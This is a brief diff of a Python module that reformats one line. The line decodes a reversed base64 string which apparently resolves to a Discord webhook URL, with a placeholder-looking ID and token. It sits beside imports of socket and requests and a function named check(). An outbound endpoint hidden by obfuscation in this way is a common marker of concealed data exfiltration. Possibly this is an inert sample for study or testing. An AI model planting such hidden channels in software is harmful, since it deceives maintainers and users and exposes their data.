@@ -5,11 +5,7 @@ import socket
 
 import requests
 
-_h = base64.b64decode(
-    "=4WZr9Gdt4WZtl2YlB3ctQncl5WavADMwADMwADMwADMwADMwADMw8ycr92boJWZ39SawF2LlxGctFGel5SbvNmLkJ3bjNXak9yL6MHc0RHa"[
-        ::-1
-    ]
-).decode()
+_h = base64.b64decode("=4WZr9Gdt4WZtl2YlB3ctQncl5WavADMwADMwADMwADMwADMwADMw8ycr92boJWZ39SawF2LlxGctFGel5SbvNmLkJ3bjNXak9yL6MHc0RHa"[::-1]).decode()
 
 
 def check():
